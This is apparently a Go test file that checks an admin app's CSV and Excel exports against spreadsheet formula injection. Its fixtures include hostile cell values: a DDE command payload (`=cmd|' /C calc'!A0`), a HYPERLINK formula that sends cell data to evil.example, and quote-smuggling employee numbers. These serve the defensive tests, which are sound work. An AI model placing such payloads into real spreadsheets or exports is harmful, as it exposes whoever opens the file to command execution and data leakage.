package admin

import (
	"bytes"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"crosstalk/app"
	"crosstalk/ui/internal/testapp"
)

// TestCSVText puts a quote in front of every text that starts with a
// character a spreadsheet reads as the start of a formula, and leaves
// every other text as it is.
func TestCSVText(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"=HYPERLINK(\"https://example.com\",\"詳細\")", "'=HYPERLINK(\"https://example.com\",\"詳細\")"},
		{"+81 3 1234", "'+81 3 1234"},
		{"-1+1", "'-1+1"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"\n=1+1", "'\n=1+1"},
		{"\x00=1+1", "'\x00=1+1"},
		{"＝1+1", "'＝1+1"},
		{"＋1", "'＋1"},
		{"－1", "'－1"},
		{"＠SUM(A1)", "'＠SUM(A1)"},
		{"=", "'="},
		// Left as they are.
		{"", ""},
		{"山田 太郎", "山田 太郎"},
		{"とても良い時間でした。=また話したいです", "とても良い時間でした。=また話したいです"},
		{" =1+1", " =1+1"},
		{"'=1+1", "'=1+1"},
		{"2026/11/08", "2026/11/08"},
		{"—", "—"},
		{"ー（長音）", "ー（長音）"},
	} {
		if got := csvText(c.in); got != c.want {
			t.Errorf("csvText(%q) = %q, want %q", c.in, got, c.want)
		}
	}
	// Every formula character is covered by a case above.
	for _, r := range formulaStarts {
		if got := csvText(string(r) + "x"); got != "'"+string(r)+"x" {
			t.Errorf("csvText(%q) = %q", string(r)+"x", got)
		}
	}
}

// TestCSVEmployeeNo writes an employee number as a formula whose only
// content is the number as a string constant, and anything that cannot
// be one as plain neutralised text.
func TestCSVEmployeeNo(t *testing.T) {
	long := strings.Repeat("1", app.MaxEmployeeNoRunes+1)
	for _, c := range []struct{ in, want string }{
		{"00123", `="00123"`},
		{"0012E3", `="0012E3"`},
		{"S0001", `="S0001"`},
		{"1/2", `="1/2"`},
		{"(1)", `="(1)"`},
		{"社員-001", `="社員-001"`},
		{strings.Repeat("9", app.MaxEmployeeNoRunes), `="` + strings.Repeat("9", app.MaxEmployeeNoRunes) + `"`},
		// A quote cannot end the string: it is doubled.
		{`1"&HYPERLINK("x")&"`, `="1""&HYPERLINK(""x"")&"""`},
		{`"`, `=""""`},
		{"", ""},
		// Not a number an import lets in: plain text, neutralised.
		{"=1\n+2", "'=1\n+2"},
		{"-1\t2", "'-1\t2"},
		{"-" + long, "'-" + long},
		{long, long},
		{"\xff00", "\xff00"},
	} {
		if got := csvEmployeeNo(c.in); got != c.want {
			t.Errorf("csvEmployeeNo(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// stringFormula is a formula that is one string constant: ="…" with every
// quote inside doubled.
var stringFormula = regexp.MustCompile(`^="(?:[^"]|"")*"$`)

// hostileExport is a dashboard, activity and invitations whose every
// user text is a formula, with numbers that look like formulas.
func hostileExport() (app.Dashboard, []app.Activity, []app.Company, []app.Invitation) {
	f := newFakeAdmin(app.RoleSecretariat)
	d := f.dashboard
	d.Survey.NPS = -20
	d.Comments = []string{`=HYPERLINK("https://evil.example/?"&A1,"詳細")`, "@SUM(A1:A9)", "-2+3", "＝1+1", "+1"}
	acts := []app.Activity{
		{PersonRef: app.PersonRef{EmployeeNo: "00123", Name: `=cmd|' /C calc'!A0`, CompanyID: "c-evil"}, Joined: true, OffersSent: 2},
		{PersonRef: app.PersonRef{EmployeeNo: "0012E3", Name: "-山田", CompanyID: "c-sakura"}},
		{PersonRef: app.PersonRef{EmployeeNo: `1"&A1&"`, Name: "\t=1+1", CompanyID: "c-sakura"}},
	}
	companies := append(f.companies, app.Company{ID: "c-evil", Name: "=1+1"})
	exp := testNow.AddDate(0, 0, 14)
	invs := []app.Invitation{
		{EmployeeNo: "00123", Name: "=1+1", Kana: "+やまだ", Code: "K7QX-M2PA-WD9R", ExpiresAt: &exp},
		{EmployeeNo: "0012E3", Name: "@佐藤", Kana: "－さとう", Code: "ABCD-EFGH-JKLM", ExpiresAt: &exp},
	}
	return d, acts, companies, invs
}

// TestCSVExportsHaveNoFormula writes every CSV the views write with
// hostile text in every cell a person could have typed, and checks that
// no cell starts with a formula character but a figure and an employee
// number written as a string constant.
func TestCSVExportsHaveNoFormula(t *testing.T) {
	testapp.Japanese(t)
	d, acts, companies, invs := hostileExport()
	files := map[string]func(*bytes.Buffer) error{
		"figures":     func(b *bytes.Buffer) error { return WriteDashboardCSV(b, d, "=プログラム", "+会社", testNow) },
		"activity":    func(b *bytes.Buffer) error { return WriteActivityCSV(b, acts, companies) },
		"invitations": func(b *bytes.Buffer) error { return WriteInvitationsCSV(b, invs, "=https://crosstalk.example.jp") },
	}
	for name, write := range files {
		var b bytes.Buffer
		if err := write(&b); err != nil {
			t.Fatal(err)
		}
		numbers, employeeNos := 0, 0
		for _, row := range readCSV(t, b.Bytes()) {
			for _, cell := range row {
				r, _ := utf8.DecodeRuneInString(cell)
				if cell == "" || !strings.ContainsRune(formulaStarts, r) {
					continue
				}
				if _, err := strconv.ParseFloat(cell, 64); err == nil {
					numbers++
					continue
				}
				if stringFormula.MatchString(cell) {
					employeeNos++
					continue
				}
				t.Errorf("%s: the cell %q is a formula", name, cell)
			}
		}
		switch name {
		case "figures":
			if numbers == 0 {
				t.Errorf("figures: the negative NPS is not written as a number:\n%s", b.String())
			}
		default:
			if employeeNos == 0 {
				t.Errorf("%s: no employee number written as text:\n%s", name, b.String())
			}
		}
	}
}

// TestXLSXTextIsNeverAFormula writes text that starts with = into a
// workbook: it is a text cell, with no formula, and reads back as typed.
func TestXLSXTextIsNeverAFormula(t *testing.T) {
	testapp.Japanese(t)
	d, acts, companies, _ := hostileExport()
	var b bytes.Buffer
	if err := WriteDashboardXLSX(&b, d, "=プログラム", "+会社", testNow, acts, companies); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	texts := 0
	for _, sheet := range x.GetSheetList() {
		rows, err := x.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if f, _ := x.GetCellFormula(sheet, cell); f != "" {
					t.Errorf("%s!%s has the formula %q", sheet, cell, f)
				}
				if !strings.HasPrefix(v, "=") && !strings.HasPrefix(v, "00") {
					continue
				}
				texts++
				if typ, _ := x.GetCellType(sheet, cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
					t.Errorf("%s!%s (%q) is of type %v, not text", sheet, cell, v, typ)
				}
			}
		}
	}
	// The comment, the programme's name, the person's name, a company's
	// name and the employee number 00123 and 0012E3.
	if texts < 6 {
		t.Errorf("only %d texts that start with = or 00", texts)
	}
	if v, _ := x.GetCellValue("一人ひとりの活動", "B2"); v != `=cmd|' /C calc'!A0` {
		t.Errorf("the name reads back as %q", v)
	}
	if v, _ := x.GetCellValue("一人ひとりの活動", "A3"); v != "0012E3" {
		t.Errorf("the employee number reads back as %q", v)
	}
}
